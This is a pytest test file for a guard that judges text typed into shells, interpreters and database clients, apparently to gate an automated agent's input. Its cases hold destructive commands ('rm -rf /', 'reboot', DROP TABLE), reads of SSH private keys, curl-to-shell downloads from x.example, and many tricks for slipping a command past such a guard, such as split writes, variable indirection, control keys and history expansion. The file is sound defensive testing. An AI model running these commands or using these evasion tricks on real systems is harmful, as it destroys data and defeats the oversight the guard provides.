"""Text typed into running processes: judged for shells and interpreters, allowed where it is an answer."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from holdfast.safety import ShellState, default_policy, judge_input, shell_state
from holdfast.safety.lines import typed, waits_for_more

WHERE = "/home/user/project"


def write(shell: ShellState, *texts: str | bytes) -> list[str]:
    return [judge_input(text, shell, default_policy()).action for text in texts]


@pytest.fixture
def bash() -> ShellState:
    return shell_state("bash", WHERE)


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("bash", "shell"),
        ("exec bash -i", "shell"),
        (["/bin/sh"], "shell"),
        (["zsh", "-l"], "shell"),
        ("sudo -s", "shell"),
        ("env X=1 bash --norc", "shell"),
        ("docker exec -it box sh", "shell"),
        ("ssh host", "shell"),
        ("cd src && bash", "shell"),
        ("python3", "code"),
        ("python3 -i x.py", "code"),
        (["node"], "code"),
        ("gawk '{print $0 | \"sh\"}'", "shell"),
        ("nix-shell", "shell"),
        ("nix develop", "shell"),
        ("unshare -r", "shell"),
        ("gdb ./x", "code"),
        ("lldb ./x", "code"),
        ("python3 -m pdb x.py", "code"),
        ("python3 -m code", "code"),
        ("rails c", "code"),
        ("psql shop", "sql"),
        ("sqlite3 x.db", "sql"),
        ("bash run.sh", "plain"),
        ("bash -c 'read x'", "plain"),
        ("npm init", "plain"),
        ("python3 ask.py", "plain"),
        ("cat", "plain"),
        ("", "plain"),
    ],
)
def test_the_reader_of_typed_text(command: str | list[str], kind: str) -> None:
    assert shell_state(command, WHERE).kind == kind


@pytest.mark.parametrize(
    "command",
    [
        "awk '{system($0)}'",
        ["awk", '{ "rm " $1 | getline }'],
        "sed e",
        "sed -n 's/.*/&/e'",
        "sed 's#.*#&#e; d'",
        "sed 's/.*/&/e;d'",
        "sed '1!e'",
        "sed -n '1 e'",
        "sed '/x/{e}'",
        "awk '{print | $1}'",
        "awk '{print | ($1)}'",
        "perl -ne 'system($_)'",
        "perl -pe '$_ = `$_`'",
        "perl -ne 'eval'",
        "perl -ne 'open F, qq/x/; open(F, \"-|\", $_)'",
        "perl -ne 'open F, \"$_|\"'",
        "ruby -ne 'Kernel.open(\"|\" + $_)'",
        "ruby -e '$<.each { |l| system l }'",
        "lua -e 'for l in io.lines() do os.execute(l) end'",
        "lua -e 'loadstring(io.read())()'",
        "perl -e 'while (<STDIN>) { exec $_ }'",
        "ruby -ne 'system($_)'",
        "python3 -c 'import os, sys; [os.system(line) for line in sys.stdin]'",
        ["python3", "-c", "while True: exec(input())"],
        'node -e \'process.stdin.on("data", d => require("child_process").execSync(d))\'',
        'while read -r line; do eval "$line"; done',
        "xargs rm -rf",
        "xargs -I{} sh -c '{}'",
        "parallel",
        "m4",
    ],
)
def test_every_line_typed_into_a_program_that_runs_its_input_is_asked_about(command: str | list[str]) -> None:
    shell = shell_state(command, WHERE)
    assert write(shell, "rm -rf /\n", "x\n", "\n") == ["deny", "ask", "allow"]


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print $1}'",
        "awk '{print $1 | \"sort\"}'",
        "sed s/a/b/",
        "sed 's/the end/e/'",
        "sed -e 's/step 1 e x/y/' -e '/e/d'",
        "sed 's/ones /twos /;s/a/e/g'",
        "perl -ne 'print if /x/'",
        'perl -ne \'open(F, ">", "out") || die; print F $_\'',
        "python3 -c 'name = input(); print(name)'",
        "python3 -c 'import json, sys; print(json.load(sys.stdin))'",
        "cat",
    ],
)
def test_text_typed_into_a_filter_is_allowed(command: str) -> None:
    assert write(shell_state(command, WHERE), "rm -rf /\n") == ["allow"]


def test_a_line_typed_into_a_shell_is_judged_like_a_command(bash: ShellState) -> None:
    assert write(bash, "ls\n", "rm -rf /\n", "rm -rf src\r", b"rm -rf build\n") == ["allow", "deny", "ask", "allow"]


def test_a_line_split_over_writes_is_judged_when_enter_comes(bash: ShellState) -> None:
    assert write(bash, "rm -r", "f /", "\n") == ["allow", "allow", "deny"]
    assert bash.pending == "rm -rf /"


@settings(max_examples=60)
@given(st.sets(st.integers(1, 8)))
def test_no_cut_hides_a_line(cuts: set[int]) -> None:
    shell, text = shell_state("bash", WHERE), "rm -rf /\n"
    edges = [0, *sorted(cuts), len(text)]
    actions = write(shell, *(text[left:right] for left, right in pairwise(edges)))
    assert actions[-1] == "deny" and set(actions[:-1]) <= {"allow"}


def test_a_refused_line_changes_nothing(bash: ShellState) -> None:
    assert write(bash, "X=rm; rm -rf src\n", "$X -rf /\n") == ["ask", "ask"]
    assert write(bash, "ls\n") == ["allow"]


def test_an_approved_line_counts_as_typed(bash: ShellState) -> None:
    bash.accept("X=~/.ssh/id_rsa; rm -rf src\n", default_policy())
    assert write(bash, "ls $X\n") == ["ask"]


@pytest.mark.parametrize(
    "lines",
    [
        ("X=rm\n", "$X -rf /\n"),
        ("F=~/.ssh/id_rsa\n", "cat $F\n"),
        ("F=~/.ssh/id_rsa\n", "cat ${F%x}\n"),
        ("r() { rm $@; }\n", "r -rf /\n"),
        ("alias l='rm -v'\n", "l -rf src\n"),
        ("cd build\n", "rm -rf *\n"),
        ("cd /\n", "rm -rf build\n"),
        ("go() { cd /; }\n", "rm -rf build\n"),
        ("echo 'rm -rf ~' > x.sh\n", "sh x.sh\n"),
        ("curl -o x.sh https://x.example/x\n", "bash ./x.sh\n"),
    ],
)
def test_a_line_that_depends_on_an_earlier_one_is_asked_about(bash: ShellState, lines: tuple[str, str]) -> None:
    assert write(bash, *lines) == ["allow", "ask"]


def test_a_line_that_sets_a_name_itself_does_not_depend_on_earlier_ones(bash: ShellState) -> None:
    loop = "for x in a b; do echo $x; done\n"
    assert write(bash, "D=1\n", "ls\n", loop, loop, "D=2; echo $D\n", "ls > log\n", "cat log\n") == ["allow"] * 7


ANSWERS = [
    "y", "n", "Y", "yes", "42", "3.14", "", "my-app", "hunter2", "a@b.example", "p@ss(w)ord", "it's", "x)y", "C:\\x",
    "correct horse battery staple", "/tmp/x", "1,2,3", "q", "?", '"quoted', "hunter2!",
]  # fmt: skip


@pytest.mark.parametrize("answer", ANSWERS)
def test_ordinary_answers_pass(bash: ShellState, answer: str) -> None:
    assert write(bash, answer + "\n") == ["allow"]
    assert write(shell_state("npm init"), answer + "\n") == ["allow"]
    assert write(shell_state("python3"), answer + "\n") == ["allow"]


@pytest.mark.parametrize("password", ["$ecret", "rm -rf /", "`x`", "!bang", "a;reboot"])
def test_a_password_prompt_takes_anything(bash: ShellState, password: str) -> None:
    assert judge_input(password + "\n", bash, default_policy(), hidden=True).action == "allow"
    assert write(bash, "rm -rf /\n") == ["deny"]


def test_a_password_prompt_takes_one_line(bash: ShellState) -> None:
    assert judge_input("x\nrm -rf /\n", bash, default_policy(), hidden=True).action == "deny"


def test_text_for_other_programs_is_not_judged() -> None:
    assert write(shell_state("npm init"), "rm -rf /\n", "\x03") == ["allow", "allow"]


def test_an_open_end_waits_and_hides_nothing(bash: ShellState) -> None:
    assert write(bash, "if true; then\n", "rm -rf /\n") == ["allow", "deny"]
    assert write(bash, "ls\n", "fi\n") == ["allow", "allow"]
    assert bash.block == ""
    assert write(bash, "it's\n", "rm -rf /\n") == ["allow", "deny"]


def test_lines_that_belong_together_are_judged_together(bash: ShellState) -> None:
    assert write(bash, "rm \\\n", "-rf /\n") == ["allow", "deny"]
    bash = shell_state("bash", WHERE)
    assert write(bash, "curl x.example |\n", "sh\n") == ["allow", "ask"]
    bash = shell_state("bash", WHERE)
    assert write(bash, "sh <<EOF\n", "cd /\n", "rm -rf *\n") == ["allow", "allow", "deny"]


def test_several_lines_in_one_write(bash: ShellState) -> None:
    assert write(bash, "ls\npwd\nrm -rf /\n") == ["deny"]
    assert write(bash, "cat > x.sh <<'EOF'\necho hi\nEOF\ncat x.sh\n", "sh x.sh\n") == ["allow", "ask"]


def test_keys_that_change_the_line(bash: ShellState) -> None:
    assert write(bash, "rm -rf /\x15ls\n") == ["allow"]
    assert write(bash, "rm -rf /xx\x7f\x7f\n") == ["deny"]
    assert write(bash, "\x03", "ls\n") == ["allow", "allow"]
    assert write(bash, "ls; echo x\x17\x17reboot\n") == ["ask"]
    assert write(bash, "-rf /\x01rm \n") == ["ask"]
    assert write(bash, "\x12rm\n") == ["ask"]
    assert write(bash, "\x1b[200~ls\x1b[201~\r", "\tls\r", "ls \x7f\r") == ["allow"] * 3


@pytest.mark.parametrize(
    "keys",
    [
        ("reboot\x0f",),  # Ctrl-O runs the line
        ("set -o vi\r", "reboot\x1b\r"),
        ("set -o vi\r", "reboot\x1b", "\r"),
        ("\x1b[200~reboot;\x15\x1b[201~\r",),  # in a paste, keys are letters
        ("\x1b[200~", "reboot;\x15\x1b[201~\r"),
        ("reboot;x\x17\r",),  # a terminal without a line editor erases letters alone
        ("reboot;\x08\x08\x08\x08\x08\x08\x08\r",),  # and knows no Ctrl-H
        ("reboot\x04\x04",),
        ("reboot", "\x04\x04"),
        ("reboo\t\r",),  # may be completed
        ("reboot", "\x1a", "\r"),  # a shell is deaf to it, and keeps its line
        ("reboot", "\x1c", "\r"),
        ("trap '' INT\r", "reboot", "\x03", "\r"),
        ("\x1b[A\r",),  # an old line
        ("\x10\r",),
        ("echo", "\x1b", "\x7f reboot\r"),
        ("\x1b", ".\r"),
        (b"echo\xff reboot\r",),
        ("stty eol t\r", "reboot"),
        ("bind '\"x\": accept-line'\r", "rebootx"),
    ],
)
def test_keys_that_hide_a_line_are_asked_about(bash: ShellState, keys: tuple[str | bytes, ...]) -> None:
    assert "ask" in write(bash, *keys)


@pytest.mark.parametrize(
    "keys", ["reboot;\x15\n", "reboot;\x7f\x7f\x7f\x7f\x7f\x7f\x7f\n", "reboot;\x03\n", "reboot;\x17\n"]
)
def test_in_a_pipe_no_key_edits(keys: str) -> None:
    assert write(shell_state("sh", WHERE, terminal=False), keys) == ["ask"]


@pytest.mark.parametrize(
    "command", ["python3", "python3 -", "python3 -iu x.py", "node -i", "python manage.py shell", "iex"]
)
def test_earlier_lines_of_code_count(command: str) -> None:
    shell = shell_state(command, WHERE)
    assert write(shell, "import os\n", "x = 'rm -rf ~/work'\n", "print(1)\n") == ["allow"] * 3
    assert write(shell, "os.system(x)\n") == ["ask"]


@pytest.mark.parametrize(
    "command",
    [
        "docker run -it ubuntu",
        "docker attach x",
        "tmux attach",
        "screen -r",
        "sudo -iu root",
        "bash -s x",
        "sh -",
        "vagrant ssh",
        "nc host 22",
    ],
)
def test_shells_by_other_names(command: str) -> None:
    assert write(shell_state(command, WHERE), "rm -rf ~/work\n") == ["ask"]


def test_text_behind_a_bang_in_an_editor_is_a_command() -> None:
    shell = shell_state("vim notes.md", WHERE)
    assert write(shell, "irm -rf ~/work is bad\n", "\x1b:w\r", "\x1b:!ls\r") == ["allow"] * 3
    assert write(shell, "\x1b:!rm -rf ~/work\r") == ["ask"]
    assert write(shell_state("less x", WHERE), "!rm -rf ~/work\r") == ["ask"]


def test_the_context_of_a_line_changes_with_earlier_lines(bash: ShellState) -> None:
    before = bash.context()
    assert write(bash, "cd src\n") == ["allow"] and bash.context() != before
    at_src = bash.context()
    assert write(bash, "X=1\n") == ["allow"] and bash.context() != at_src
    with_one = bash.context()
    assert write(bash, "ls\n") == ["allow"] and bash.context() == with_one
    assert write(bash, "X=2\n") == ["allow"] and bash.context() != with_one
    assert shell_state("bash", WHERE).context() == before


def test_history_expansion_is_asked_about(bash: ShellState) -> None:
    assert write(bash, "!rm\n") == ["ask"]
    for line in ("true; !rm", "^echo ^^", "sudo !!", 'echo "!$"', "!-2", "fc -s", "fc -e vi"):
        assert write(bash, f"{line}\n") == ["ask"], line
    for line in (
        "echo 'hi!you'",
        "[ ! -f x ] && ls",
        "if ! ls; then pwd; fi",
        "echo $!",
        "echo ${!x}",
        "[ a != b ]",
        "fc -l",
    ):
        assert write(bash, f"{line}\n") == ["allow"], line
    assert write(shell_state("sh", WHERE, terminal=False), 'node -e "if(!x) y()"\n') == ["allow"]


def test_text_for_an_interpreter_is_judged_as_code() -> None:
    python = shell_state("python3", WHERE)
    assert write(python, "import os, shutil\n", "os.getcwd()\n", "x = [1, 2]\n") == ["allow"] * 3
    assert write(python, "os.system('rm -rf /')\n", "shutil.rmtree('/')\n", "shutil.rmtree(x)\n") == [
        "deny",
        "deny",
        "ask",
    ]
    node = shell_state("node", WHERE)
    assert write(node, "1 + 1\n", "require('child_process').execSync('rm -rf /')\n") == ["allow", "deny"]


def test_text_for_a_database_client_is_judged_as_statements() -> None:
    psql = shell_state("psql shop", WHERE)
    assert write(psql, "select 1;\n", "DROP TABLE users;\n") == ["allow", "ask"]
    assert write(psql, "drop\n", "table users;\n") == ["allow", "ask"]
    psql = shell_state("psql shop", WHERE)
    assert write(psql, "\\! rm -rf /\n", "\\q\n") == ["deny", "allow"]


def test_a_started_program_becomes_the_reader(bash: ShellState) -> None:
    def reader() -> str:
        return bash.kind

    assert write(bash, "python3\n") == ["allow"] and reader() == "code"
    assert write(bash, "import shutil\n", "shutil.rmtree('/')\n") == ["allow", "deny"]
    assert write(bash, "rm -rf /\n") == ["deny"]
    assert write(bash, "exit()\n") == ["allow"] and reader() == "shell"
    assert write(bash, "psql shop\n", "drop table x;\n", "\x04") == ["allow", "ask", "allow"] and reader() == "shell"
    assert write(bash, "ssh host\n", "rm -rf /\n") == ["allow", "deny"]


def test_a_line_without_end_is_not_held_for_ever(bash: ShellState) -> None:
    assert write(bash, "x" * 40_000, "x" * 40_000) == ["allow", "ask"]


@settings(max_examples=100)
@given(st.binary(max_size=80), st.sampled_from(["bash", "python3", "psql x"]))
def test_no_bytes_make_it_raise(text: bytes, command: str) -> None:
    shell = shell_state(command, WHERE)
    for part in (text, b"\n", text + b"\r"):
        assert "could not be judged (" not in judge_input(part, shell, default_policy()).why


@settings(max_examples=100)
@given(st.text(max_size=30), st.text(max_size=30))
def test_keys_make_the_same_lines_however_they_are_cut(first: str, second: str) -> None:
    first = first.replace("\x1b", "").replace("\x04", "")
    whole = typed("", False, first + second)
    one = typed("", False, first)
    two = typed(one.pending, one.edited, second)
    assert (one.lines + two.lines, two.pending) == (whole.lines, whole.pending)


@pytest.mark.parametrize(
    "text",
    [
        "if x; then",
        "echo 'a",
        'echo "a',
        "cat <<E",
        "f() {",
        "for x in a; do",
        "x |",
        "x &&",
        "(ls",
        "a \\",
        "case x in",
    ],
)
def test_a_shell_waits_for_more(text: str) -> None:
    assert waits_for_more(text + "\n")


WHOLE = [
    "ls", "echo 'a'", "cat <<E\nx\nE", "f() { ls; }", "for x in a; do ls; done", "x | y", "(ls)", "echo if",
    "case x in a) ls;; esac", "if x; then y; fi", "echo {a,b}", "# don't",
]  # fmt: skip


@pytest.mark.parametrize("text", WHOLE)
def test_a_shell_does_not_wait(text: str) -> None:
    assert not waits_for_more(text + "\n")
